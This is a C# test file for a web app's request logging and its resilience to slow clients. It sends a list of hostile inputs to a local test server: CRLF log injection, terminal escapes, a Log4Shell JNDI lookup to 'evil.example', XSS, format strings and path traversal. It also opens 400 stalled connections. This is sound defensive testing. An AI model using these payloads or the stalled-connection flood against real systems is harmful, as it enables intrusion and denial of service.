using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Trellis.Tests.Durability;
using Trellis.Tests.Support;

namespace Trellis.Tests.Web;

/// <summary>The log of the running site: each request is one line that a program can read, whatever was asked, and what people typed is in none. Slow visitors keep nobody out.</summary>
public sealed class LogLines
{
    private const string Canary = "canary-4711";
    private const int Slow = 400;

    private static readonly string[] Payloads =
    [
        "%0d%0aGET%20/forged%20200%201%20ms", "%0a{\"forged\":true}", "%0d{\"forged\":true}", "%1b[31mred%1b[0m", "%1b]0;title%07", "%00null", "%e2%80%a8forged", "%e2%80%a9forged", "%c2%85forged", "%7f%08%08%08",
        "\",\"forged\":\"true", "\\u000aforged", "\\\"}{", "%22%7d%7b%22forged%22", "${jndi:ldap://evil.example/a}", "%25n%25n%25s", "{Method}{0}{{1}}", "<script>alert(1)</script>", "%f0%9f%98%80%ed%a0%80", "..%5c..%5cetc%5cpasswd",
    ];

    /// <summary>What the server itself refuses as no request never comes to the log.</summary>
    private int refused;

    [Fact]
    public async Task Each_request_is_one_line_whatever_was_asked_and_holds_no_secret()
    {
        using var test = TestDatabase.Create();
        var port = Child.FreePort();
        using var child = await Child.Trellis(test, ["serve", "--place", "none", "--port", $"{port}"]).Ready(port);
        foreach (var payload in Payloads)
        {
            await Raw(port, $"GET /payload/{payload.Replace(' ', '+')}?q={Canary}&key={Canary} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: {Canary} {payload}\r\nX-Forwarded-For: {Canary}\r\nCookie: trellis={Canary}\r\nConnection: close\r\n\r\n");
        }

        using var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = new($"http://127.0.0.1:{port}") };
        await (await (await new Visitor(client).Open("/sign-in")).Submit(("Email address", $"{Canary}@example.org"))).FollowRedirect();
        await new Visitor(client).Open("/the-last-one");
        var said = await child.Stop(); // the console writes a moment later, and all of it before the end

        Assert.DoesNotContain(Canary, said, StringComparison.Ordinal);
        var lines = said.Split('\n', StringSplitOptions.RemoveEmptyEntries).Where(line => line.StartsWith('{')).ToList();
        var requests = lines.Select(line => JsonDocument.Parse(line).RootElement).Where(line => line.GetProperty("Category").GetString()!.EndsWith("RequestLog", StringComparison.Ordinal)).ToList();
        Assert.Equal([], said.Split('\n', StringSplitOptions.RemoveEmptyEntries).Where(line => !line.StartsWith('{') && !line.StartsWith("Trellis is ready", StringComparison.Ordinal)));
        Assert.Contains(requests, line => line.GetProperty("State").GetProperty("Path").GetString() == "/the-last-one");
        Assert.Equal(Payloads.Length, requests.Count(line => line.GetProperty("State").GetProperty("Path").GetString()!.StartsWith("/payload/", StringComparison.Ordinal)) + refused);
        Assert.All(requests, line => Assert.DoesNotContain(line.GetProperty("State").GetProperty("Path").GetString()!, char.IsControl));
    }

    [Fact]
    public async Task Four_hundred_visitors_who_never_finish_asking_keep_nobody_out()
    {
        using var test = TestDatabase.Create();
        var port = Child.FreePort();
        using var child = await Child.Trellis(test, ["serve", "--place", "none", "--port", $"{port}"]).Ready(port);
        var slow = new List<TcpClient>();
        for (var number = 0; number < Slow; number++)
        {
            var one = new TcpClient();
            await one.ConnectAsync("127.0.0.1", port);
            await one.GetStream().WriteAsync(Encoding.ASCII.GetBytes(number % 2 == 0 ? "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " : "POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\na"));
            slow.Add(one);
        }

        using var client = new HttpClient { BaseAddress = new($"http://127.0.0.1:{port}"), Timeout = TimeSpan.FromSeconds(10) };
        for (var time = 0; time < 20; time++)
        {
            Assert.Equal(200, (int)(await client.GetAsync(new Uri("/about", UriKind.Relative))).StatusCode);
        }

        slow.ForEach(one => one.Dispose());
        await child.Kill();
    }

    private async Task Raw(int port, string request)
    {
        using var line = new TcpClient();
        await line.ConnectAsync("127.0.0.1", port);
        await line.GetStream().WriteAsync(Encoding.UTF8.GetBytes(request));
        using var reader = new StreamReader(line.GetStream());
        var status = (await reader.ReadLineAsync())!.Split(' ')[1];
        refused += status == "400" ? 1 : 0;
        await reader.ReadToEndAsync();
    }
}
